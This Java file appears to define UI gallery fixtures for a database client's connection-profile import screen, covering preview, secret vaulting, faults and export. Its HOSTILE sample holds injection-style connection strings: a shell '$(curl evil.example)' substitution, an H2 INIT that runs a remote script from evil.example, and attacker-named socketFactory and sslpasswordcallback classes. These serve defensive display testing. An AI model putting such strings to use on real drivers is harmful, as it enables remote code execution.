package dev.drydock.app.panel.connections;

import static dev.drydock.app.gallery.ConnectionsExhibits.exhibit;
import static dev.drydock.app.gallery.ConnectionsExhibits.harbour;

import dev.drydock.app.gallery.Exhibit;
import dev.drydock.core.connect.imports.ImportRequest;
import dev.drydock.core.connect.imports.Imports;
import dev.drydock.core.connect.imports.preview.ImportPreview;
import dev.drydock.core.connect.policy.SecretKeeping;
import dev.drydock.core.dialect.Dialects;
import dev.drydock.core.fault.DbFault;
import dev.drydock.core.job.Outcome;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;

/// The import of profiles in every state, on what the importers really make of a text.
public final class ImportExhibits {
    private static final Imports IMPORTS = new Imports(Dialects.importPorts(), Path.of("/home/ann"));
    private static final String SERVICES = """
        [harbour-eu]
        host=db-1.harbour.example
        dbname=harbour
        user=app_ro
        sslmode=verify-full

        [cranes]
        host=10.20.4.77
        port=5433
        dbname=cranes
        user=operator
        options=-c statement_timeout=1
        """;
    private static final String URLS = """
        postgres://app:s3cret@db-9.harbour.example:5433/cranes
        postgres://app:s3cret@db-9.harbour.example:5433/cranes
        mysql://billing:t1de@pay.harbour.example/billing
        """;
    private static final String HOSTILE = """
        postgres://db-9.harbour.example/cranes?socketFactory=evil.Factory
        postgres://app@$(curl evil.example)/x
        jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'
        postgres://ann@db-7.harbour.example/quays?sslpasswordcallback=evil.Callback&application_name=quays
        """;

    private ImportExhibits() {}

    public static List<Exhibit> all() {
        return List.of(
                exhibit("import", ImportStage::opened),
                exhibit("import-looking", stage -> ImportStage.found(stage, Optional.empty())),
                exhibit("import-nothing", stage -> ImportStage.found(stage, read(""))),
                exhibit("import-preview", stage -> ImportStage.found(harbour(stage), read(SERVICES, URLS))),
                exhibit(
                        "import-secrets",
                        stage -> ImportStage.secretsTaken(
                                ImportStage.found(harbour(stage), read(SERVICES, URLS)), SecretKeeping.VAULT)),
                exhibit("import-hostile", stage -> ImportStage.found(stage, read(HOSTILE, "\u0000\u0001"))),
                exhibit(
                        "import-fault",
                        stage -> ImportStage.found(
                                stage,
                                Optional.of(new Outcome.Failed<>(
                                        new DbFault.Other("the workspace cannot be written", ""))))),
                exhibit(
                        "exported",
                        stage -> ImportStage.exported(harbour(stage).selected("harbour-eu"), new Outcome.Done<>(7))),
                exhibit(
                        "not-exported",
                        stage -> ImportStage.exported(
                                harbour(stage).selected("harbour-eu"),
                                new Outcome.Failed<>(
                                        new DbFault.Other("/home/ann: no space left on the device", "")))));
    }

    private static Optional<Outcome<List<ImportPreview>>> read(String... texts) {
        return Optional.of(new Outcome.Done<>(Stream.of(texts)
                .filter(text -> !text.isEmpty())
                .map(text -> IMPORTS.text(text, ImportRequest.AUTO))
                .toList()));
    }
}
